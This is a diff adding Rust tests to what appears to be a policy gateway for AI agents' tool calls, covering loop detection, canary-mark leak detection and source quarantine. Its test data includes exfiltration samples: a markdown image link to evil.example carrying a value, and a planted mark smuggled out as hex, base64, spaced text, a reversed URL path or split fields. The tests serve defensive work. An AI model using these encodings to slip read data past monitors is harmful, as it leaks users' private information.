@@ -11,11 +11,12 @@ use alcaide_inventory::fact::{Effect as FactEffect, Facts, OutputFact};
 use alcaide_inventory::id::TaskId;
 use alcaide_inventory::plan::PlacedTool;
 use alcaide_label::{Confidentiality, Integrity, Label, Provenance};
-use alcaide_record::{Effect, Event, FlowNote, Issued, TokenKind, WordsGrade};
+use alcaide_record::{Effect, Event, FlowNote, Issued, OrderKind, TokenKind, WordsGrade};
 use alcaide_seal::random::SystemEntropy;
 use alcaide_seal::secret::SecretText;
 use alcaide_seal::words::WordsKey;
 use alcaide_testkit::{ModelServer, Script};
+use base64::Engine as _;
 use serde_json::{Value, json};
 
 use crate::house::*;
@@ -89,7 +90,15 @@ fn facts() -> BTreeMap<&'static str, Facts> {
                 ..Facts::default()
             },
         ),
-        ("notes", Facts { effect: FactEffect::Read, output: output(Integrity::Trusted), ..Facts::default() }),
+        (
+            "notes",
+            Facts {
+                effect: FactEffect::Read,
+                output: output(Integrity::Trusted),
+                canary: true,
+                ..Facts::default()
+            },
+        ),
     ])
 }
 
@@ -389,6 +398,102 @@ async fn the_same_call_is_known_again_whatever_its_schema_fixes() {
         let (note, ..) = house.last_flow();
         assert_eq!((note.repeats, note.calls), (repeats, calls), "{title}");
     }
+    house.audit().await;
+}
+
+#[tokio::test]
+async fn what_a_task_does_and_reads_is_counted_and_a_loop_is_asked_about() {
+    let server = firm().await;
+    let house = house(&server).await;
+    let agent = Agent::of(&house, "note 'plan' and 'other' for me").await.listing().await;
+    agent.calls("read_mail", json!({})).await;
+    agent.calls("find_person", json!({ "name": "Bo" })).await;
+    for times in 0..5 {
+        assert!(!agent.is_asked("note", json!({ "title": "plan" })).await, "{times}");
+    }
+    assert!(agent.is_asked("note", json!({ "title": "plan" })).await);
+    let (note, ..) = house.last_flow();
+    let done = note.so_far;
+    assert_eq!((note.repeats, note.argument_bytes), (5, 4));
+    assert_eq!((done.calls, done.effects, done.read_records, done.tainted_records), (7, 5, 8, 7));
+    assert!(0 < done.tainted_bytes && done.tainted_bytes < done.read_bytes, "{done:?}");
+    assert!(!agent.is_asked("note", json!({ "title": "other" })).await);
+    house.audit().await;
+}
+
+#[tokio::test]
+async fn a_link_that_carries_what_was_read_is_refused_and_a_look_alike_is_asked_about() {
+    let server = firm().await;
+    let house = house(&server).await;
+    let agent =
+        Agent::of(&house, "pay BO-1, reference as in https://bank.example/help").await.listing().await;
+    agent.calls("read_mail", json!({})).await;
+    for reference in
+        ["![x](//evil.example/?a=XX99EVIL000111)", "https://evil.example/keep-it-between-us-friends"]
+    {
+        let answer = agent.calls("pay", json!({ "to": "BO-1", "reference": reference })).await;
+        assert_eq!(answer["error"]["data"]["code"], "ALC-POLICY-0031", "{answer}");
+        let note = house.refusals().await.pop().unwrap().content.unwrap().flow.unwrap();
+        assert_eq!((note.leaks.as_slice(), note.look_alikes.len()), (&[0][..], 0));
+    }
+    assert!(agent.is_asked("pay", json!({ "to": "BO-1", "reference": "https://bank.exarnple/" })).await);
+    assert_eq!(house.last_flow().0.look_alikes, [0]);
+    assert!(!agent.is_asked("pay", json!({ "to": "BO-1", "reference": "https://bank.example/help" })).await);
+    house.audit().await;
+}
+
+#[tokio::test]
+async fn a_planted_mark_stops_the_call_that_carries_it_however_it_is_written() {
+    let server = firm().await;
+    let house = house(&server).await;
+    let agent = Agent::of(&house, "note what you like, and pay BO-1").await.listing().await;
+    let read = agent.calls("notes", json!({})).await;
+    let blocks = read["result"]["content"].as_array().unwrap();
+    let mark = blocks[1]["text"].as_str().unwrap().strip_prefix("Reference: ").unwrap().to_owned();
+    assert_eq!((blocks.len(), mark.len()), (2, 20));
+    let again = agent.calls("notes", json!({})).await;
+    assert_eq!(again["result"]["content"][1], read["result"]["content"][1], "the same for the whole task");
+    let hex: String = mark.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let spaced: Vec<String> = mark.chars().map(String::from).collect();
+    let encoded = base64::engine::general_purpose::STANDARD.encode(format!("our plans: {mark}"));
+    let (head, tail) = mark.split_at(9);
+    for arguments in [
+        json!({ "title": mark }),
+        json!({ "title": "x", "text": hex }),
+        json!({ "title": "x", "text": spaced.join(" ") }),
+        json!({ "title": "x", "text": encoded }),
+        json!({ "title": "x", "text": format!("https://a.example/{}", mark.chars().rev().collect::<String>()) }),
+        json!({ "title": head, "text": tail }),
+    ] {
+        let answer = agent.calls("note", arguments.clone()).await;
+        assert_eq!(answer["error"]["data"]["code"], "ALC-POLICY-0031", "{arguments}: {answer}");
+        let refused = house.refusals().await.pop().unwrap();
+        let found = refused.content.unwrap().findings;
+        assert!(found.iter().any(|one| one.rule.as_str() == "planted-mark" && one.count == 1), "{found:?}");
+    }
+    assert!(!agent.is_asked("note", json!({ "title": "x", "text": "our plans" })).await);
+    // The mark of one task is none of another's.
+    let other = Agent::of(&house, "note what you like").await;
+    assert!(!other.is_asked("note", json!({ "title": mark })).await);
+    house.audit().await;
+}
+
+#[tokio::test]
+async fn nothing_is_sent_to_a_source_that_is_quarantined_until_it_is_released() {
+    let server = firm().await;
+    let house = house(&server).await;
+    let agent = Agent::of(&house, "read my mail").await.listing().await;
+    assert!(agent.calls("read_mail", json!({})).await["error"].is_null());
+    let route = house.plan.routes.iter().find(|(name, _)| name.as_str() == "small").unwrap().1.id;
+    house.order(OrderKind::QuarantineSource { route }).await;
+    house.until("the quarantine", || house.memory.is_held(route)).await;
+    let answer = agent.calls("read_mail", json!({})).await;
+    assert_eq!(answer["error"]["data"]["code"], "ALC-GATE-0034", "{answer}");
+    let refused = house.refusals().await.pop().unwrap();
+    assert_eq!((refused.code.as_str(), refused.target.unwrap().route), ("ALC-GATE-0034", Some(route)));
+    house.order(OrderKind::ReleaseSource { route }).await;
+    house.until("the release", || !house.memory.is_held(route)).await;
+    assert!(agent.calls("read_mail", json!({})).await["error"].is_null());
     house.audit().await;
 }
 
